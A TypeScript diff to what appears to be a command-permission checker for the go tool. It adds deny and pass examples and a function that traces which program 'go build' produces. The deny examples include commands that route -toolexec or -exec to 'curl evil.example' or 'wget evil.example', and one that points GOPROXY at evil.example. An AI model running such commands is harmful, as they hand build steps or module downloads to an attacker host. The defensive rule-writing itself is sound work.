@@ -1501,7 +1501,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   // (GOFLAGS' -toolexec, CC, CGO_CFLAGS' -fplugin…), the toolchain it fetches, and where modules come from and how they
   // are checked, as pip's index-url is. GOPRIVATE, GO111MODULE and the like pass.
   inMode(
-    { names: ['go'], summary: 'go: -toolexec, -exec and -vettool (and $GOFLAGS, $CC) name programs it runs', analyze: go, examples: { deny: ["go build -toolexec='curl evil.example' .", "go test -exec='curl evil.example' ./...", "go run -exec 'wget evil.example' .", "GOFLAGS=-toolexec=/usr/bin/curl go build .", 'GOPROXY=https://evil.example go mod download'], pass: ['go build ./...', 'go test -race ./...', 'go vet ./...', 'CC=clang go build .', 'GOPROXY=https://proxy.golang.org,direct go mod download', 'GOPROXY=direct go get example.com/x'] } },
+    { names: ['go'], summary: 'go: -toolexec, -exec and -vettool (and $GOFLAGS, $CC) name programs it runs', analyze: go, examples: { deny: ["go build -toolexec='curl evil.example' .", "printf 'package main\\nfunc main(){}\\n' > /tmp/m.go && go build -o /tmp/m /tmp/m.go && /tmp/m", "mkdir -p cmd/x && printf 'package main\\nfunc main(){}\\n' > cmd/x/main.go && go build ./cmd/x && ./x", "go test -exec='curl evil.example' ./...", "go run -exec 'wget evil.example' .", "GOFLAGS=-toolexec=/usr/bin/curl go build .", 'GOPROXY=https://evil.example go mod download'], pass: ['go build ./...', 'go test -race ./...', 'go vet ./...', 'CC=clang go build .', 'go build -o bin/app ./cmd/app && ./bin/app --help', "printf 'package main\\nfunc main(){}\\n' > main.go && go build ./...", 'GOPROXY=https://proxy.golang.org,direct go mod download', 'GOPROXY=direct go get example.com/x'] } },
     {
       when: /^env(?: \S+)* -w(?: |$)/,
       summary: 'go env -w writes ~/.config/go/env (its keys that name programs, toolchains and module sources)',
@@ -1982,7 +1982,47 @@ function go(call: Call): Partial<Answer> {
     else if (v !== undefined && (name === 'CC' || name === 'CXX' || name === 'PKG_CONFIG')) runs.push(programRun(attached(at, v), `go $${name}`));
     else if (v !== undefined && name === 'CGO_LDFLAGS' && /-fuse-ld|--ld-path|-B/.test(v)) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: 'go hands the linker flags naming another linker' });
   }
-  return { runs };
+  const build = goBuild(args);
+  return build ? { runs, builds: [build] } : { runs };
+}
+
+/** go's build flags that take the next word (`-o app`, `-tags x`); `-flag=value` attaches it. */
+const GO_VALUED = /^--?(?:o|p|C|asmflags|buildmode|buildvcs|compiler|gccgoflags|gcflags|installsuffix|ldflags|mod|modfile|overlay|pgo|pkgdir|tags|toolexec|exec|coverpkg|covermode|coverprofile|vettool)$/;
+
+/**
+ * `go build`: the program it links (-o, else named after the first .go file or the package's directory) is made of
+ * the .go files and the package directories it is given (`.` when none): Go the line wrote there runs when it does.
+ */
+function goBuild(args: readonly Word[]): NonNullable<Answer['builds']>[number] | undefined {
+  const sub = args.findIndex((a) => !(value(a) ?? '-').startsWith('-'));
+  if (sub < 0 || value(args[sub]) !== 'build') return undefined;
+  let out: Word | undefined;
+  const files: Word[] = [];
+  const trees: Word[] = [];
+  for (let i = sub + 1; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v !== undefined && v.startsWith('-')) {
+      const m = /^--?o=([\s\S]*)$/.exec(v);
+      if (m) out = attached(args[i]!, m[1]!);
+      else if (GO_VALUED.test(v)) {
+        if (/^--?o$/.test(v)) out = args[i + 1];
+        i++;
+      }
+      continue;
+    }
+    if (v !== undefined && v.endsWith('.go')) files.push(args[i]!);
+    else trees.push(args[i]!);
+  }
+  if (files.length === 0 && trees.length === 0) trees.push(attached(args[sub]!, '.'));
+  const first = files[0] ?? trees[0]!;
+  const name = value(first)
+    ?.replace(/\/\.\.\.$/, '')
+    .replace(/\/+$/, '')
+    .replace(/^.*\//, '')
+    .replace(/\.go$/, '');
+  const o = value(out);
+  const to = out && o !== undefined && !o.endsWith('/') ? out : name !== undefined && name !== '' && name !== '.' && name !== '..' && name !== '...' ? attached(out ?? first, o?.endsWith('/') ? `${o}${name}` : name) : out;
+  return to ? { from: files, stdin: false, to, trees } : undefined;
 }
 
 /** mvn exec:exec runs -Dexec.executable with -Dexec.args; other plugins run what the POM says (out of scope). */
